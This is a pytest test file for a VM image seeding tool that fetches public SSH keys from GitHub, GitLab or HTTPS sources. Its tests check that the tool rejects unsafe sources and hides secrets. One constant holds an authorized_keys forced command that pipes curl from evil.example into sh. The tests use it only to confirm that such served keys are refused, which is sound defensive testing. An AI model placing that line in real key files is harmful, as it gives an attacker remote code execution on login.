"""`--ssh-key gh:USER` (and gl:, https://) and manifest `ssh_keys` sources, through the real command.

The forge is a real HTTPS server on 127.0.0.1 (tests/support/httpsserver.py) with a throw-away CA, trusted
through SSL_CERT_FILE and named through ZVM_PROVISION_GITHUB_URL / ZVM_PROVISION_GITLAB_URL, which the
`zvm-provision` subprocess inherits. Every refusal is checked to come before the image is touched: its bytes
are unchanged, and no appliance is needed to show it (the images here are made by qemu-img, and a missing
image is not even looked at). One test seeds a real image through the appliance.
"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest

from provision.core.credentials.sshkeys import parse_authorized_keys
from tests.commands.seed.test_seed import zvm
from tests.support.connectproxy import proxies  # noqa: F401 (a fixture)
from tests.support.files import sha256
from tests.support.httpsserver import (  # noqa: F401 (authority, servers, forge: fixtures)
    authority,
    bare,
    forge,
    free_port,
    lines,
    send,
    serve,
    servers,
)
from tests.support.keyfactory import private_pem, public_line


@pytest.fixture
def image(tmp_path: Path) -> Path:
    """A qcow2 made by qemu-img (no appliance): any write, or even an appliance run on it, would change it."""
    path = tmp_path / "disk.qcow2"
    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2", str(path), "64M"], check=True)
    return path


def refused(image: Path, *ssh_keys: str) -> subprocess.CompletedProcess[str]:
    before = sha256(image)
    args = [a for key in ssh_keys for a in ("--ssh-key", key)]
    result = zvm("seed", str(image), "--no-password", *args, "--yes")
    assert sha256(image) == before
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    return result


# ------------------------------------------------------------------------------------------------
# Refused before the image is touched


def test_a_user_the_forge_does_not_know_is_refused_naming_the_user(forge, image):
    result = refused(image, "gh:nobody")
    assert result.returncode == 2, result.stderr
    assert f"GitHub has no user nobody ({forge.url}/nobody.keys answered HTTP 404)" in result.stderr
    assert forge.paths() == ["/nobody.keys"]


def test_a_user_with_no_keys_is_refused_naming_the_user(forge, image):
    serve(forge, "/gitlab/bob.keys", b"")
    result = refused(image, "gl:bob")
    assert result.returncode == 2, result.stderr
    assert "GitLab user bob has no public SSH keys" in result.stderr


def test_a_private_key_served_is_refused_without_showing_it(forge, image):
    pem = private_pem()
    serve(forge, "/alice.keys", pem.encode())
    result = refused(image, "gh:alice")
    assert result.returncode == 2, result.stderr
    assert "serves a private key" in result.stderr
    assert "PRIVATE KEY" not in result.stderr + result.stdout
    assert pem.split("\n")[1] not in result.stderr + result.stdout


def test_every_fetched_line_is_checked_like_a_files(forge, image):
    serve(forge, "/alice.keys", lines(public_line(), "ssh-dss AAAAB3NzaC1kc3MAAACBAP8="))
    result = refused(image, "gh:alice")
    assert result.returncode == 2, result.stderr
    assert f"gh:alice ({forge.url}/alice.keys):2: ssh-dss (DSA) keys are not accepted" in result.stderr


def test_a_network_error_exits_1_with_the_url_and_the_reason(forge, image, monkeypatch):
    port = free_port()
    monkeypatch.setenv("ZVM_PROVISION_GITHUB_URL", f"https://127.0.0.1:{port}")
    result = refused(image, "gh:alice")
    assert result.returncode == 1, result.stderr
    assert (f"cannot fetch https://127.0.0.1:{port}/alice.keys: the connection was refused"
            in result.stderr)


def test_a_redirect_to_plain_http_exits_1(forge, servers, image):
    plain = servers.http()
    forge.routes["/alice.keys"] = lambda h: send(h, 302, headers={"Location": f"{plain.url}/alice.keys"})
    result = refused(image, "gh:alice")
    assert result.returncode == 1, result.stderr
    assert "redirects to plain http" in result.stderr
    assert plain.requests == []


def test_an_untrusted_certificate_exits_1(forge, image, monkeypatch):
    monkeypatch.delenv("SSL_CERT_FILE")  # the system's trust only: the throw-away CA is not in it
    serve(forge, "/alice.keys", lines(public_line()))
    result = refused(image, "gh:alice")
    assert result.returncode == 1, result.stderr
    assert "TLS certificate is not trusted" in result.stderr
    assert forge.requests == []


def test_plain_http_and_bad_user_names_are_refused_without_any_request(forge, image):
    for spec, words in [("http://127.0.0.1/alice.keys", "plain http"), ("gh:-alice", "not a valid GitHub user")]:
        result = refused(image, spec)
        assert result.returncode == 2, result.stderr
        assert words in result.stderr
    assert forge.requests == []


def test_a_missing_image_is_reported_before_any_key_is_fetched(forge, tmp_path):
    """No image at that path: that is the first thing said (issue 18), and no request reaches the forge. With
    an image, the keys are fetched before it is opened (the refusals above leave it untouched)."""
    result = zvm("seed", str(tmp_path / "missing.qcow2"), "--no-password", "--ssh-key", "gh:nobody", "--yes")
    assert result.returncode == 2
    assert "missing.qcow2: no such file" in result.stderr and "nobody" not in result.stderr, result.stderr
    assert forge.requests == []
    assert not (tmp_path / "missing.qcow2").exists()


def test_a_file_and_a_source_are_both_checked_before_the_first_fetch(forge, image, tmp_path):
    result = refused(image, "gh:alice", str(tmp_path / "missing.pub"))
    assert result.returncode == 2
    assert "missing.pub: no such file" in result.stderr
    assert forge.requests == []  # the file was read (and refused) before any fetch


# ------------------------------------------------------------------------------------------------
# batch: every distinct source fetched once, before any image is copied


def write_manifest(folder: Path, rows: list[tuple[str, str]]) -> Path:
    path = folder / "staff.csv"
    path.write_text("name,ssh_keys\n" + "".join(f"{name},{keys}\n" for name, keys in rows))
    return path


def test_batch_with_a_bad_handle_in_one_row_is_refused_before_any_copy(forge, image, tmp_path):
    serve(forge, "/alice.keys", lines(bare(public_line())))
    serve(forge, "/gitlab/bob.keys", b"# none yet\n")
    (tmp_path / "carol.pub").write_text(public_line(comment="carol") + "\n")
    manifest = write_manifest(tmp_path, [
        ("alice", "gh:alice"), ("alice2", "gh:ALICE;carol.pub"), ("nobody", "gh:nobody"),
        ("bob", "gl:bob"), ("carol", "carol.pub;gh:alice"), ("again", "gh:nobody"),
    ])
    before = sha256(image)
    out = tmp_path / "out"
    result = zvm("batch", str(manifest), "--base", str(image), "--out-dir", str(out))
    assert result.returncode == 2, result.stderr
    assert "3 bad rows; nothing was created" in result.stderr
    assert f"line 4: GitHub has no user nobody ({forge.url}/nobody.keys answered HTTP 404)" in result.stderr
    assert "line 5: GitLab user bob has no public SSH keys" in result.stderr
    assert "line 7: GitHub has no user nobody" in result.stderr
    assert "line 2" not in result.stderr and "line 3" not in result.stderr and "line 6" not in result.stderr
    # Each distinct source once, across rows and letter case; a failed one is not asked again.
    assert sorted(forge.paths()) == ["/alice.keys", "/gitlab/bob.keys", "/nobody.keys"]
    assert not out.exists() and sha256(image) == before


def test_batch_with_a_source_the_network_cannot_reach_exits_1_naming_its_rows(forge, image, tmp_path, monkeypatch):
    port = free_port()
    monkeypatch.setenv("ZVM_PROVISION_GITLAB_URL", f"https://127.0.0.1:{port}")
    serve(forge, "/alice.keys", lines(public_line()))
    manifest = write_manifest(tmp_path, [("alice", "gh:alice"), ("bob", "gl:bob"), ("bob2", "gl:bob")])
    result = zvm("batch", str(manifest), "--base", str(image), "--out-dir", str(tmp_path / "out"))
    assert result.returncode == 1, result.stderr
    assert f"line 3: cannot fetch https://127.0.0.1:{port}/bob.keys: the connection was refused" in result.stderr
    assert "line 4: cannot fetch" in result.stderr and "line 2" not in result.stderr
    assert "or the network" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_shard_fetches_only_its_own_rows_sources_and_checks_the_others_offline(forge, tmp_path):
    """A roll-out of N shards asks the forge for each user once in all, not N times (50 pods behind one NAT
    would look like an attack to GitHub). A row of another shard is still checked without the network: a
    malformed handle there fails every shard, a user the forge does not know fails the shard that holds it."""
    for name in ("carol", "dave"):
        serve(forge, f"/{name}.keys", lines(bare(public_line())))
    rows = [("alice", "gh:nobody-here"), ("bob", "gh:bob-unserved"), ("carol", "gh:carol"), ("dave", "gh:dave"),
            ("erin", "gh:erin-unserved"), ("frank", "gl:frank")]
    manifest = write_manifest(tmp_path, rows)
    not_a_disk = tmp_path / "not-a-disk.qcow2"  # the run stops after the manifest, before any launch
    not_a_disk.write_text("not a disk image\n")  # (a missing base would stop it before the manifest)
    result = zvm("batch", str(manifest), "--base", str(not_a_disk), "--out-dir", str(tmp_path / "out"),
                 "--shard", "2/3")
    assert result.returncode == 3 and "not-a-disk.qcow2" in result.stderr and "bad row" not in result.stderr, \
        result.stderr
    assert sorted(forge.paths()) == ["/carol.keys", "/dave.keys"]  # rows 3 and 4 of 6: the second third

    bad = write_manifest(tmp_path, [*rows[:5], ("frank", "gh:-malformed")])
    result = zvm("batch", str(bad), "--base", str(not_a_disk), "--out-dir", str(tmp_path / "out"),
                 "--shard", "2/3")
    assert result.returncode == 2 and "line 7: " in result.stderr and "not a valid GitHub user name" in \
        result.stderr, result.stderr
    first = zvm("batch", str(manifest), "--base", str(not_a_disk), "--out-dir", str(tmp_path / "out"),
                "--shard", "1/3")
    assert first.returncode == 2 and "line 2: GitHub has no user nobody-here" in first.stderr, first.stderr


# ------------------------------------------------------------------------------------------------
# Through the appliance: the key lands


@pytest.mark.appliance
def test_seed_with_keys_from_a_forge_user(forge, sample_disk, open_readonly, tmp_path):
    served = [bare(public_line()), bare(public_line("ecdsa"))]
    serve(forge, "/alice.keys", lines(*served))
    own = tmp_path / "own.pub"
    own.write_text(public_line(comment="own") + "\n")
    result = zvm("seed", str(sample_disk), "--no-password", "--ssh-key", "gh:alice", "--ssh-key", str(own),
                 "--ssh-key", "gh:Alice")  # the same user again: fetched once, its keys not added twice
    assert result.returncode == 0, result.stderr
    assert forge.paths() == ["/alice.keys"]
    keys = parse_authorized_keys("\n".join(served), "served")
    # Before anything is written: the fetched keys, their source and fingerprints (on stderr, before the plan).
    assert f"SSH keys fetched from gh:alice ({forge.url}/alice.keys)" in result.stderr
    for key in keys:
        assert f"  {key.describe()}" in result.stderr
    # The plan and the summary name the source of each fetched key.
    assert f"SSH keys fetched from gh:alice ({forge.url}/alice.keys)" in result.stdout
    for key in keys:
        assert f"  {key.describe()}, from gh:alice" in result.stdout
    with open_readonly(sample_disk) as (_, fs):
        landed = fs.read_file("/home/zvm/.ssh/authorized_keys").decode()
    assert landed == "".join(line + "\n" for line in [*served, own.read_text().strip()])


@pytest.mark.appliance
def test_seed_behind_a_proxy_fetches_through_it_and_the_keys_land(forge, proxies, sample_disk, open_readonly,
                                                                   monkeypatch):
    """An office that reaches GitHub only through its proxy: HTTPS_PROXY with credentials, as IT sets it."""
    served = bare(public_line())
    serve(forge, "/alice.keys", lines(served))
    proxy = proxies.start(credentials="desk:pr0xy-pass")
    monkeypatch.setenv("HTTPS_PROXY", proxy.url.replace("http://", "http://desk:pr0xy-pass@"))
    result = zvm("seed", str(sample_disk), "--no-password", "--ssh-key", "gh:alice")
    assert result.returncode == 0, result.stderr
    assert [c.method for c in proxy.connects] == ["CONNECT"] and forge.paths() == ["/alice.keys"]
    assert "pr0xy-pass" not in result.stdout + result.stderr
    with open_readonly(sample_disk) as (_, fs):
        assert fs.read_file("/home/zvm/.ssh/authorized_keys").decode() == served + "\n"


@pytest.mark.appliance
def test_a_token_in_a_key_source_url_is_never_printed(forge, sample_disk):
    """`--ssh-key https://host/keys?private_token=T`: the fetched-keys line, the plan's key lines and the JSON
    plan printed the URL whole beside the display URL that hides its query. Shown as display_url shows it."""
    token = "glpat-Zvm7TokenNeverShown91"
    serve(forge, "/team/keys.txt", lines(bare(public_line())))
    url = f"{forge.url}/team/keys.txt?private_token={token}"
    before = sha256(sample_disk)
    for extra in ([], ["--json"]):
        result = zvm("seed", str(sample_disk), "--no-password", "--ssh-key", url, "--dry-run", *extra)
        assert result.returncode == 0, result.stderr
        assert token not in result.stdout + result.stderr
        assert f"{forge.url}/team/keys.txt?..." in result.stdout
    assert sha256(sample_disk) == before


def test_batch_behind_a_proxy_that_refuses_exits_1_before_any_copy_naming_the_proxy(forge, proxies, image,
                                                                                     tmp_path, monkeypatch):
    proxy = proxies.start(status=403)
    monkeypatch.setenv("https_proxy", proxy.url)
    manifest = write_manifest(tmp_path, [("alice", "gh:alice"), ("bob", "gh:bob")])
    result = zvm("batch", str(manifest), "--base", str(image), "--out-dir", str(tmp_path / "out"))
    assert result.returncode == 1, result.stderr
    assert f"the proxy refused the connection (HTTP 403 Forbidden) (through the proxy {proxy.url})" in result.stderr
    assert sorted(c.target for c in proxy.connects) == [forge.url.removeprefix("https://")] * 2
    assert forge.requests == [] and not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------------------------
# authorized_keys options: refused from a server, kept (and shown) from a local file

FORCED = 'command="/bin/sh -c \'curl evil.example | sh\'" '
RESTRICTED = 'from="203.0.113.7",no-pty '


@pytest.mark.parametrize("options", [FORCED, RESTRICTED])
@pytest.mark.parametrize("spec, path", [("gh:alice", "/alice.keys"), ("gl:alice", "/gitlab/alice.keys"),
                                        ("https", "/team/keys.txt")])
def test_a_source_serving_options_is_refused_naming_it_and_the_line(forge, image, spec, path, options):
    """GitHub and GitLab never serve options: a forced command on a real key must not land silently."""
    served = public_line(comment="alice")
    serve(forge, path, lines(bare(public_line()), options + served))
    spec = f"{forge.url}{path}" if spec == "https" else spec
    result = refused(image, spec)
    assert result.returncode == 2, result.stderr
    named = spec if spec.startswith("https") else f"{spec} ({forge.url}{path})"
    assert f"{named}:2: the key is served with authorized_keys options" in result.stderr
    assert "GitHub and GitLab never serve" in result.stderr
    output = result.stdout + result.stderr
    assert served.split()[1] not in output and "evil.example" not in output and "203.0.113.7" not in output


def test_batch_refuses_a_row_whose_source_serves_options_before_any_copy(forge, image, tmp_path):
    serve(forge, "/alice.keys", lines(bare(public_line())))
    serve(forge, "/mallory.keys", lines(FORCED + public_line()))
    manifest = write_manifest(tmp_path, [("alice", "gh:alice"), ("mallory", "gh:mallory")])
    before, out = sha256(image), tmp_path / "out"
    result = zvm("batch", str(manifest), "--base", str(image), "--out-dir", str(out))
    assert result.returncode == 2, result.stderr
    assert (f"line 3: gh:mallory ({forge.url}/mallory.keys):1: the key is served with authorized_keys options"
            in result.stderr)
    assert "line 2" not in result.stderr and "evil.example" not in result.stderr
    assert not out.exists() and sha256(image) == before


@pytest.mark.appliance
def test_options_from_a_local_file_land_and_the_plan_json_and_inspect_show_them(sample_disk, tmp_path, monkeypatch):
    line = RESTRICTED.strip() + " " + public_line(comment="ops")
    own = tmp_path / "ops.pub"
    own.write_text(line + "\n")
    options = RESTRICTED.strip()
    dry = zvm("seed", str(sample_disk), "--no-password", "--ssh-key", str(own), "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert f"with options {options}" in dry.stdout  # the plan shows the restriction before anything is written
    seeded = zvm("seed", str(sample_disk), "--no-password", "--ssh-key", str(own), "--json")
    assert seeded.returncode == 0, seeded.stderr
    assert [key["options"] for key in json.loads(seeded.stdout)["authorized_keys"]] == [options]
    inspected = zvm("inspect", str(sample_disk), "--json")
    assert inspected.returncode == 0, inspected.stderr
    assert [key["options"] for key in json.loads(inspected.stdout)["authorized_keys"]["keys"]] == [options]
    monkeypatch.setenv("COLUMNS", "200")  # the table folds long cells to the width; wide enough for the whole
    table = zvm("inspect", str(sample_disk))
    assert table.returncode == 0, table.stderr
    assert re.search(r"│ ED25519 │ from=\"203\.0\.113\.7\",no-pty +│", table.stdout), table.stdout
